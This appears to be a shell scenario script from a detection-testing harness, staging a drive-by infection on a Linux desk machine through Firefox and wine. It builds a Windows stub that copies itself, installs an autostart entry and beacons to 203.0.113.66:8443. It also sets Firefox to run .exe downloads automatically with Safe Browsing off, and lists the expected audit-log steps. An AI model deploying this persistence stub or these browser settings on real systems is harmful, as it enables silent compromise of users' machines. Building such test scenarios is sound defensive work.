title="Firefox hands a Windows program of a webmail to wine by itself"
what="clerk's Firefox was told once to open Windows programs with wine, for a tax program. Today a letter in a free webmail leads to Contrato-Firma.exe; Firefox saves it and starts wine on it: no terminal, no chmod. It connects to 203.0.113.66 port 8443, copies itself to ~/.wine/drive_c/ProgramData and writes ~/.config/autostart/firma.desktop. A site's own rules, RAW, stamps of RFC 3164."
host=ws3.example.org user=clerk daemons="cron sshd" audit_rules=audit-site.rules audit_format=RAW
firefox_policies() { # DIRECTORY, DOWNLOADS
  mkdir -p "$1"
  cat > "$1/policies.json" <<CF
{"policies": {"DisableTelemetry": true, "DisableAppUpdate": true, "CaptivePortal": false, "NetworkPrediction": false, "DontCheckDefaultBrowser": true, "OverrideFirstRunPage": "", "OverridePostUpdatePage": "", "NoDefaultBookmarks": true,
 "DefaultDownloadDirectory": "$2", "ExtensionUpdate": false, "SkipTermsOfUse": true, "DNSOverHTTPS": {"Enabled": false, "Locked": true}, "Homepage": {"URL": "about:blank", "StartPage": "none"},
 "Handlers": {"mimeTypes": {"application/x-msdos-program": {"action": "useHelperApp", "ask": false, "handlers": [{"name": "Wine", "path": "/usr/bin/wine"}]}, "application/x-msdownload": {"action": "useHelperApp", "ask": false, "handlers": [{"name": "Wine", "path": "/usr/bin/wine"}]}},
  "extensions": {"exe": {"action": "useHelperApp", "ask": false, "handlers": [{"name": "Wine", "path": "/usr/bin/wine"}]}}},
 "Preferences": {"browser.download.folderList": {"Value": 2}, "dom.security.https_first": {"Value": false}, "browser.safebrowsing.malware.enabled": {"Value": false}, "browser.safebrowsing.downloads.enabled": {"Value": false}, "browser.download.always_ask_before_handling_new_types": {"Value": false},
  "browser.cache.disk.enable": {"Value": false}, "network.connectivity-service.enabled": {"Value": false}, "browser.region.network.url": {"Value": ""}}}}
CF
}
setup() {
  mkdir -p "$base/out/jw"
  cat > "$base/out/f.c" <<'C'
#include <winsock2.h>
#include <windows.h>
#include <stdio.h>
int main(void) {
  char me[400]; WSADATA data; WSAStartup(MAKEWORD(2, 2), &data);
  GetModuleFileName(0, me, 400); CreateDirectory("C:\\ProgramData\\Firma", 0); CopyFile(me, "C:\\ProgramData\\Firma\\firma.exe", 0);
  FILE *f = fopen("Z:\\home\\clerk\\.config\\autostart\\firma.desktop", "w");
  if (f) { fputs("[Desktop Entry]\nType=Application\nName=Firma\nExec=wine 'C:\\ProgramData\\Firma\\firma.exe'\n", f); fclose(f); }
  SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8443), .sin_addr.s_addr = inet_addr("203.0.113.66")};
  if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) send(s, "here\n", 5, 0);
  closesocket(s); return 0;
}
C
  x86_64-w64-mingw32-gcc-win32 -O1 -s -o "$base/out/jw/Contrato-Firma.exe" "$base/out/f.c" -lws2_32 || return 1
  install -d -o clerk /home/clerk/.config /home/clerk/.config/autostart
  setpriv --reuid clerk --regid clerk --clear-groups env -i HOME=/home/clerk USER=clerk PATH=/usr/bin:/bin WINEDEBUG=-all wine wineboot -i >/dev/null 2>&1
  setpriv --reuid clerk --regid clerk --clear-groups env -i HOME=/home/clerk USER=clerk PATH=/usr/bin:/bin wineserver -w >/dev/null 2>&1 || true
  cat > "$base/out/web.py" <<'P'
import http.server, sys, os
os.chdir(sys.argv[1])
class H(http.server.SimpleHTTPRequestHandler):
    extensions_map = {'.exe': 'application/x-msdos-program', '': 'text/html'}
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(('203.0.113.83', 8088), H).serve_forever()
P
}
act() {
  outside python3 "$base/out/web.py" "$base/out/jw" & own_pids+=($!)
  display_up; small_talk 2
  ssh_run buyer 'ls -la'
  firefox_visit clerk http://webmail.example.com/inbox
  firefox_as clerk http://webmail.example.com:8088/Contrato-Firma.exe
  wait_file /home/clerk/.config/autostart/firma.desktop 60; sleep 4; ls -la /home/clerk/Downloads >&2; desktop_close
  ssh_run clerk 'ls'
  small_talk 1
}
truth() {
  net_step visit 'firefox.* .*203.0.113.83' 'the webmail'
  file_step save 'firefox.* .*Contrato-Firma' 'saved by the browser'
  exec_step execute 'wine.*Contrato-Firma' 'which opens it with wine'
  net_step beacon 'wine.* 203.0.113.66:8443' 'it calls out'
}
